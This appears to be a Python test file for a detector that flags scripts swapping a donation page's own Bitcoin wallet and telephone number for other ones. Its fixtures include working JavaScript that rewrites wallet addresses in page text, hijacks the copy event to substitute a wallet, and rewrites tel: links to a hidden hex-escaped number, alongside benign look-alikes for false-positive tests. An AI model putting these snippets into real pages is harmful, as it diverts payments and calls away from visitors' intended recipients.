"""Scripts that put other wallets and telephone numbers in the place of the page's own."""

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_swaps import examine_swaps
from app.engines.extract.page import extract_document
from app.engines.html.document import HtmlDocument
from app.engines.parsing.own_pages import own_page_of

URL = "https://www.school.test/give/"
TYPE = "text/html; charset=utf-8"
OWN = "bc1qschoolfund0000000000000000000000000k3v"
OTHER = "bc1qother00000000000000000000000000000z9w"
PAGE = f"<p>Give Bitcoin: <code id=btc>{OWN}</code> or ring <a href='tel:0105550101'>010 555 0101</a></p>"
REPLACED = f"""<script>var w="{OTHER}",n=document.createTreeWalker(document.body,4);
while(n.nextNode())n.currentNode.nodeValue=n.currentNode.nodeValue.replace(/\\bbc1[a-z0-9]{{20,60}}/g,w)</script>"""
NAMED = f"<script>const r=/(bc1|ltc1)[a-z0-9]{{25,60}}/;p.textContent=p.textContent.replace(r,'{OTHER}')</script>"
COPIED = f"""<script>document.addEventListener('copy',function(e){{
e.clipboardData.setData('text/plain','{OTHER}');e.preventDefault()}})</script>"""


def escaped(text):
    return "".join(f"\\x{ord(character):02x}" for character in text)


CALLS = f"""<script>var n="{escaped("0105559999")}";setInterval(function(){{
document.querySelectorAll('a[href^="tel:"]').forEach(function(a){{a.href="tel:"+n}})}},900)</script>"""


def terms(html):
    document = HtmlDocument.decode(html.encode(), TYPE)
    page = own_page_of(document, extract_document(document, url=URL, headers=[("content-type", TYPE)]), URL)
    found = list(examine_swaps(page))
    assert {one.sign for one in found} <= {TamperSign.SCRIPT_SWAPS}
    return [term for one in found for term in one.terms]


@pytest.mark.parametrize("script", [REPLACED, NAMED, COPIED])
def test_a_script_swaps_wallets(script):
    assert terms(PAGE + script) == [OTHER]


@pytest.mark.parametrize(
    "script",
    [
        REPLACED.replace(OTHER, OWN),
        COPIED.replace(f"'{OTHER}'", "String(getSelection())+'\\nSource: school.test'"),
        # a wallet to copy, which the page shows shortened
        f"<script>b.onclick=function(){{navigator.clipboard.writeText('{OTHER}');b.textContent='copy'}}</script>",
        f"<script>a='{OTHER}';s.textContent=a.replace(/^(bc1[a-z0-9]{{10}}).*$/,'$1...')</script>",
        # checks what is typed, and names a contract
        f"<script>var c='{OTHER}';if(/^bc1[a-z0-9]{{20,60}}$/.test(v))p.textContent=t.replace(/ /g,c)</script>",
    ],
)
def test_copy_buttons_shortened_wallets_and_checks_swap_none(script):
    assert terms(PAGE + script) == []


def test_a_script_swaps_telephone_numbers_for_one_that_it_hides():
    assert terms(PAGE + CALLS) == ["0105559999"]


@pytest.mark.parametrize(
    "script",
    [
        CALLS.replace(escaped("0105559999"), "0105559999"),  # of the branch: for all to read
        CALLS.replace(escaped("0105559999"), escaped("0105550101")),
        CALLS.replace("tel:", "sms:"),
    ],
)
def test_numbers_in_plain_sight_and_the_own_one_swap_nothing(script):
    assert terms("<p>0105550101</p>" + PAGE + script) == []
